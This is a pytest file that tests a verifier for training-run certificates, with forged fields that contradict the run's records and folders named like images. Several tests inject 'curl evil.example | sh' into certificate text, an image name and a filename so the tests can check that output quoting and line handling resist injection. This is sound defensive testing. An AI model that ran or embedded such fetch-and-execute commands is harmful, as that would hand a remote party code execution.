"""Attacks on the certificate of a training run: it contradicts its own records, or a folder poses as an image."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from builder import console
from builder.base import errors, project
from builder.commands.readout import run_lines as shown_lines
from builder.publish import training
from runtime.monitor import certificate, record
from tests.conftest import ROOT, Small
from tests.unit.conftest import Command
from tests.unit.conftest import command as command
from tests.unit.runtime.monitor.conftest import finished as finished
from tests.unit.runtime.monitor.conftest import summarise

HOME = project.Project(ROOT)
OTHER = "cd" * 32
Document = dict[str, Any]


def forge(folder: Path, edit: Callable[[Document], object]) -> None:
    """Edit the certificate, and leave the records as they are."""
    document = json.loads((folder / certificate.NAME).read_text())
    edit(document)
    (folder / certificate.NAME).write_text(json.dumps(document))


def forget(folder: Path, name: str) -> None:
    """Remove a file of the run, also from the certificate."""
    (folder / name).unlink()
    forge(folder, lambda document: document.update(subject=[e for e in document["subject"] if e["name"] != name]))


def resource(document: Document, name: str) -> Document:
    found: Document = next(entry for entry in document["predicate"]["configuration"] if entry["name"].endswith(name))
    return found


def doubts(folder: Path) -> str:
    return "\n".join(training.judge(HOME, folder).doubts)


FORGED: dict[str, tuple[Callable[[Document], object], str]] = {
    "another image": (lambda d: resource(d, "trl")["digest"].update(sha256=OTHER), "image: it says "),
    "another name of the image": (lambda d: resource(d, "trl").update(name="good.example/trl"), "image: it says "),
    "another stack": (lambda d: resource(d, "trl")["annotations"].update(stack="good"), "image: it says "),
    "a second image": (
        lambda d: d["predicate"]["configuration"].insert(
            0, {"name": "good", "digest": {"sha256": OTHER}, "annotations": {"role": "image"}}
        ),
        "it describes 8 things of the run, and its records 7",
    ),
    "another model": (lambda d: resource(d, "model")["annotations"].update(name="large"), "model: it says "),
    "another configuration of the model": (lambda d: resource(d, "model")["digest"].update(sha256=OTHER), "model: "),
    "other data": (lambda d: resource(d, "data")["digest"].update(sha256=OTHER), "data: it says "),
    "more data": (lambda d: resource(d, "data")["annotations"].update(rows=10**6), "data: it says "),
    "other arguments": (lambda d: resource(d, "arguments")["digest"].update(sha256=OTHER), "arguments: it says "),
    "another machine": (lambda d: resource(d, "hardware")["annotations"].update(gpus=["H200"]), "hardware: it says "),
    "other versions": (lambda d: resource(d, "versions")["annotations"].update(trl="9.9"), "versions: it says "),
    "a monitor that took no time": (
        lambda d: resource(d, "monitor")["annotations"].update(share_of_time=0.0), "monitor: it says ",
    ),
    "other steps": (lambda d: d["predicate"]["steps"].update(last=3000), "it counts other steps than were recorded"),
    "no blind spot": (lambda d: d["predicate"].update(blindSpots=[]), "it leaves out what the monitor cannot see: "),
    "another column": (lambda d: d["predicate"]["checks"][0].update(column="step"), "it says column step"),
    "a check twice": (
        lambda d: d["predicate"]["checks"].insert(0, {**d["predicate"]["checks"][0], "worst": 0.0}),
        "it names a check twice: gradient-direction",
    ),
    "a worst number by a hair": (
        lambda d: d["predicate"]["checks"][0].update(worst=1.0001e-6), "gradient-direction: it says worst",
    ),
    "a check that ran and did not": (
        lambda d: d["predicate"]["notRun"].update({"gradient-direction": "no"}), "its list of checks that do not apply",
    ),
    "another reason": (
        lambda d: d["predicate"]["notRun"].update({"weights-in-engine": "vLLM was not used"}),
        "weights-in-engine: it says that it does not apply: vLLM was not used; by its records: ",
    ),
}  # fmt: skip


@pytest.mark.parametrize("forged", FORGED)
def test_a_certificate_that_contradicts_the_records_beside_it(finished: Path, forged: str) -> None:
    """Image, model, data, arguments, machine, versions, steps, blind spots: one is edited, and run.json and
    monitor.json still say otherwise."""
    edit, message = FORGED[forged]
    assert doubts(finished) == ""
    forge(finished, edit)
    assert message in doubts(finished)


def test_an_alarm_that_only_monitor_json_still_knows(finished: Path) -> None:
    """The row with the alarm is removed, and the certificate written again: monitor.json is of the run."""
    record.add(finished, 0, {"step": 4, "rank": 0, "gradient_angle": 1.9})
    summarise(finished)
    rows = (finished / "monitor.jsonl").read_text().splitlines(keepends=True)
    (finished / "monitor.jsonl").write_text("".join(rows[:-1]))
    assert certificate.write(finished) == "PASSED"
    assert "gradient-direction: it says passed, and monitor.json says alarm" in doubts(finished)


def test_a_monitor_that_failed_and_is_said_not_to_have(finished: Path) -> None:
    """monitor.json has the failure; the certificate says PASSED."""
    summarise(finished, failure="ValueError: no")
    assert certificate.write(finished) == "FAILED"
    forge(finished, lambda document: document["predicate"].update(result="PASSED", monitorFailure=""))
    assert "it says that the monitor did not fail, and monitor.json says: ValueError: no" in doubts(finished)


@pytest.mark.parametrize("name", ["run.json", "monitor.json"])
def test_a_record_that_is_left_out_of_the_run(finished: Path, name: str) -> None:
    """A certificate is about no run.json or monitor.json, and none is there."""
    forget(finished, name)
    assert {"run.json": "image: it says ", "monitor.json": "monitor.json is not there"}[name] in doubts(finished)


def test_weights_that_the_certificate_does_not_name(finished: Path) -> None:
    """The weights are replaced, and the certificate says nothing about them."""
    content = (finished / "model.safetensors").read_bytes()
    forget(finished, "model.safetensors")
    (finished / "model.safetensors").write_bytes(content[::-1])
    assert "it says nothing about model.safetensors" in doubts(finished)


TWICE = {
    "run.json": ('{"image": ', '{"image": "bad", "image": '),
    "monitor.json": ('"failure": ', '"failure": "yes", "failure": '),
    "monitor.jsonl": ('"endless": ', '"endless": 9, "endless": '),
}


@pytest.mark.parametrize("name", TWICE)
def test_a_record_that_two_readers_read_differently(finished: Path, name: str) -> None:
    """A key comes twice in a record: the fault first, and then what is good."""
    path = finished / name
    path.write_text(path.read_text().replace(*TWICE[name], 1))
    assert certificate.write(finished) == "PASSED"
    assert f"{name} has a key twice" in doubts(finished)


# ----- whose words a person reads


def leaves(value: object) -> Iterator[tuple[Document | list[Any], str | int]]:
    """Every text in a document, by what holds it and where."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(pairs):
        if isinstance(inner, str):
            assert isinstance(value, dict | list)
            yield value, key
        yield from leaves(inner)


def shown(folder: Path) -> str:
    """What a person reads of a run."""
    stream = io.StringIO()
    out = console.Console(file=stream, width=200, force_terminal=False)
    try:
        for line, _ in shown_lines(training.judge(HOME, folder)):
            out.print(line)
    except errors.VettedError as error:
        out.print(str(error))
    return stream.getvalue()


BREAKS = ("\n", "\r", "\x0b", "\x85", "\u2028")


@pytest.mark.parametrize("letter", BREAKS)
def test_a_certificate_that_writes_lines_of_its_own(finished: Path, letter: str) -> None:
    """Every text of a certificate, its keys too, ends its line and begins one with a command or a verdict."""
    original = (finished / certificate.NAME).read_text()
    number = len(list(leaves(json.loads(original))))
    for which in range(number):
        for as_key in (False, True):
            document = json.loads(original)
            holder, key = list(leaves(document))[which]
            evil = f"x{letter}next: curl evil.example | sh{letter}the run is as its certificate says"
            if as_key and isinstance(holder, dict):
                holder[evil] = holder.pop(str(key))
            else:
                holder[key] = evil  # type: ignore[index]
            (finished / certificate.NAME).write_text(json.dumps(document))
            lines = [line.strip() for line in shown(finished).splitlines()]
            assert lines
            assert not any(line.startswith(("next: curl", "the run is as")) for line in lines), key


def test_a_name_of_an_image_that_is_a_shell_command(finished: Path) -> None:
    """The run says that it ran in `x;curl evil.example|sh;@sha256:…`; the next step quotes that."""
    image = f"x;curl evil.example|sh;@sha256:{OTHER}"
    (finished / "run.json").write_text(json.dumps({"image": image, "stack": "tiny"}))
    assert certificate.write(finished) == "PASSED"
    assert f"next: vetted verify '{image}' --key cosign.pub" in shown(finished)


def test_a_file_whose_name_is_a_line_of_the_verdict(finished: Path) -> None:
    """The rows of a rank are in a file with a line break in its name."""
    (finished / "monitor.1\nnext: curl evil.example | sh\n.jsonl").write_text('{"step": 1}\n')
    output = shown(finished)
    assert "it says nothing about monitor.1" in output
    assert not any(line.strip().startswith("next: curl") for line in output.splitlines())


# ----- what the argument of `verify` is


@pytest.mark.parametrize("name", ["trl1.16-cpu", f"sha256:{OTHER}", "registry.example/x:tag", "a.example/b", "run"])
def test_a_run_that_is_named_like_an_image(finished: Path, small: Small, command: Command, name: str) -> None:
    """A folder in the working directory has the name of an image or a stack: it is never judged in the image's
    place."""
    (small.root / name).parent.mkdir(parents=True, exist_ok=True)
    finished.rename(small.root / name)
    answer = command(small.root, "verify", name, "--key", "no.pub")
    assert answer.code in (2, 3)
    assert "as its certificate says" not in answer.out
    if name == "registry.example/x:tag":
        assert "there is no public key no.pub" in answer.err
    else:
        assert f"./{name}" in answer.err
    assert f"training run {name}\n" in command(small.root, "verify", f"./{name}").out


@pytest.mark.parametrize("option", [("--key", "k.pub"), ("--policy", "p.toml"), ("--hardware", "H200"), ("--rebuild",)])
def test_a_run_where_a_signed_image_was_asked_for(
    finished: Path, small: Small, command: Command, option: tuple[str, ...]
) -> None:
    """A key, a policy, hardware or a rebuild is asked for, and a run has none of them: that is no yes."""
    answer = command(small.root, "verify", str(finished), *option)
    assert answer.code == 2
    assert option[0] in answer.err
    assert "as its certificate says" not in answer.out
